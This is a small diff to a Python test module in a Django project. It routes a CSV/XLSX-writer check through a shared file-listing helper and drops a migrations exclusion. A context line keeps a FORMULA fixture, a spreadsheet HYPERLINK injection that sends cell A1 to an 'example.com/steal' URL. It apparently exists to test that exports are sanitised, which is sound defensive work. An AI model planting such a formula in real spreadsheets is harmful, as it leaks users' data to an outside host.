@@ -26,6 +26,7 @@ from toolbox_site import exports
 from toolbox_site.models import Organization
 
 from ..monitoring.fixtures import make_report
+from ..sources import python_files
 
 FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Klik hier")'
 APPS = ("toolbox_site", "network", "finder", "criteria", "monitoring", "glossary")
@@ -83,9 +84,9 @@ def test_no_module_writes_csv_or_xlsx_files_itself():
     """csv.writer, openpyxl's Workbook and tablib only in toolbox_site/exports.py."""
     found = []
     for app in APPS:
-        for path in sorted((settings.BASE_DIR / app).rglob("*.py")):
+        for path in python_files(app):
             relative = path.relative_to(settings.BASE_DIR)
-            if "migrations" in path.parts or str(relative) == "toolbox_site/exports.py":
+            if str(relative) == "toolbox_site/exports.py":
                 continue
             for node in ast.walk(ast.parse(path.read_text())):
                 names = []
